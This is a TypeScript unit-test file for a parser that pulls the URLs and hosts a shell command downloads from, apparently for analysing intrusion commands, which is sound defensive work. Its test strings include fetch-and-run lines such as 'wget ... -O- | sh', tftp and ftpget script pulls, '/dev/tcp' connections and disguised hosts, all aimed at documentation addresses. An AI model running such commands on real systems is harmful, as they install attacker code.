/** Where commands fetch from. */
import { describe, expect, test } from "bun:test";
import { fetchedBy, toFetched, toHost } from "../../../lib/text/command-urls.ts";

/** URLs, and hosts alone after a blank. */
const found = (command: string) => fetchedBy(command).map(({ url, host }) => url ?? ` ${host}`);

const CASES: { command: string; urls: string[] }[] = [
  { command: "wget http://203.0.113.7/x.sh; chmod +x x.sh", urls: ["http://203.0.113.7/x.sh"] },
  { command: "wget 'http://203.0.113.7/x?a=1&b=(2);c' -O y", urls: ["http://203.0.113.7/x?a=1&b=(2);c"] },
  { command: 'sh -c "curl -s HTTPS://Host.Example.net:8443/a||wget -q https://host.example.net/a"', urls: ["HTTPS://Host.Example.net:8443/a", "https://host.example.net/a"] },
  { command: "$(curl -s http://203.0.113.7/a)`wget http://203.0.113.7/b`", urls: ["http://203.0.113.7/a", "http://203.0.113.7/b"] },
  { command: "wget http://203.0.113.7/33\\nchmod 777 33", urls: ["http://203.0.113.7/33"] },
  { command: "wget http://203.0.113.7/a http://203.0.113.7/a http://203.0.113.7/b", urls: ["http://203.0.113.7/a", "http://203.0.113.7/b"] },
  { command: "for i in a b; do wget http://203.0.113.7/bins/$i; done", urls: [" 203.0.113.7"] },
  { command: "wget http://[2001:db8::7]/x", urls: ["http://[2001:db8::7]/x"] },
  { command: "wget http://user:pass@203.0.113.7:81/x", urls: ["http://user:pass@203.0.113.7:81/x"] },
  { command: "see http://203.0.113.7/x, and (http://203.0.113.7/y).", urls: ["http://203.0.113.7/x", "http://203.0.113.7/y"] },
  { command: "/bin/busybox wget -q 203.0.113.7/x.sh -O- | sh", urls: ["http://203.0.113.7/x.sh"] },
  { command: "wget 203.0.113.7:8080/x", urls: ["http://203.0.113.7:8080/x"] },
  { command: "curl -O files.example.net/x.sh", urls: ["http://files.example.net/x.sh"] },
  { command: "curl -o out.sh/x 203.0.113.7", urls: ["http://203.0.113.7"] },
  { command: "wget -O x.sh; curl -O x.sh; wget; tftp", urls: [] },
  { command: "tftp 203.0.113.7 -c get t1.sh; tftp -r t2.sh -g 203.0.113.7; tftp -g -r t3.sh 203.0.113.7 69", urls: ["tftp://203.0.113.7/t1.sh", "tftp://203.0.113.7/t2.sh", "tftp://203.0.113.7/t3.sh"] },
  { command: "tftp -c get tftp1.sh", urls: [] },
  { command: "tftp -g -l /tmp/x -r x host.example.net", urls: ["tftp://host.example.net/x"] },
  { command: "ftpget -v -u anonymous -p anonymous -P 21 203.0.113.7 l.sh r.sh; ftpget 203.0.113.7 r2.sh", urls: ["ftp://203.0.113.7/r.sh", "ftp://203.0.113.7/r2.sh"] },
  { command: "exec 3<>/dev/tcp/203.0.113.7/8080; cat </dev/tcp/host.example.net/80", urls: [" 203.0.113.7", " host.example.net"] },
  { command: "wget http://localhost/x http://nodot/y http:///z http://:80/ ftp://", urls: [] },
  { command: "wget http://203.0.113.7:99999999/x http://300.1.1.1/x http://a..b/x http://-a.b/x", urls: [] },
  { command: "wget http://2130706433/x; wget http://0xcb007107/y", urls: ["http://2130706433/x", "http://0xcb007107/y"] },
  { command: "stratum+tcp://pool.example.net:3333 ssh://203.0.113.7/ xhttp://203.0.113.7/x file:///etc/passwd", urls: [] },
  { command: "sudo LC_ALL=C wget 203.0.113.7/x", urls: ["http://203.0.113.7/x"] },
  { command: "https_proxy=x wget http://203.0.113.7/?u=http://203.0.113.8/y", urls: ["http://203.0.113.7/?u=http://203.0.113.8/y"] },
  { command: "wget http://203.0.113.7/\u202egnp.exe", urls: ["http://203.0.113.7/"] },
  { command: "", urls: [] },
];

test.each(CASES)("$command", ({ command, urls }) => expect(found(command)).toEqual(urls));

describe("a host", () => {
  test.each([
    ["Example.NET", "example.net"], ["example.net.", "example.net"], ["203.0.113.7", "203.0.113.7"], ["[2001:DB8::1]", "2001:db8::1"],
    ["2130706433", "127.0.0.1"], ["0x7f.1", "127.0.0.1"], ["0177.0.0.1", "127.0.0.1"], ["1.2.3.4.5", undefined], ["x", undefined],
    ["a_b.example.net", "a_b.example.net"], ["xn--bcher-kva.example", "xn--bcher-kva.example"], ["a.b-", undefined], ["<b>.x.y", undefined],
    ["[::1%eth0]", undefined], [`${"a".repeat(300)}.net`, undefined],
  ])("%s", (text, host) => expect(toHost(text)).toBe(host));

  test("in a disguise is told, and the URL stays as it was written", () => {
    expect(toFetched("http://2130706433/x")).toEqual({ host: "127.0.0.1", url: "http://2130706433/x" });
  });
});
